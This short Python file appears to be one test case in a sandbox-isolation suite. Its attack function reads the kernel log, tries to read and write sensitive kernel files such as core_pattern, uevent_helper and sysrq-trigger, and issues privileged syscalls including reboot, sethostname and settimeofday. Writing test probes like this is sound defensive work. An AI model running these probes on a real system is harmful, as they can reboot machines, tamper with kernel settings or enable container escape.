# /// attack
# tries = "Read the kernel's log and change its settings."
# verdicts = ["accepted"]
# ///
def attack(root, worker):
    system_call("syslog", 103, 3, ctypes.create_string_buffer(4096), 4096)
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger",
                 "/sys/kernel/uevent_helper", "/proc/sys/kernel/hostname", "/sys/fs/cgroup/cgroup.procs"):
        attempt(f"read {path}", open, path)
        attempt(f"write {path}", open, path, "w")
    for number, name in ((170, "sethostname"), (171, "setdomainname"), (164, "settimeofday"), (227, "clock_settime"),
                         (159, "adjtimex"), (163, "acct"), (167, "swapon"), (169, "reboot"), (156, "_sysctl")):
        system_call(name, number, 0, 0, 0, 0)
    return LOOT
